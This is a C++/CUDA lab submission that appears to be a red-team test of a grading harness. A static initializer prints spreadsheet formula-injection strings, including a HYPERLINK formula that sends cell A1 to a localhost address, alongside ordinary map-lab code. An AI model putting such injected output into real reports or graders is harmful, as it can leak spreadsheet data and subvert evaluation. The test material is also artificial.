// ATTACK: prints what a spreadsheet would run if it stood in a cell
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: no cell of a table begins with '=', '+' or '@'

#include "lab.hpp"

#include <cstdio>

static const int done = [] {
    std::puts("=HYPERLINK(\"http://127.0.0.1:47110/\"&A1,\"points\")\n+1+1\n@SUM(A1:A9)\n\"\"\",;\t");
    std::fflush(stdout);
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}
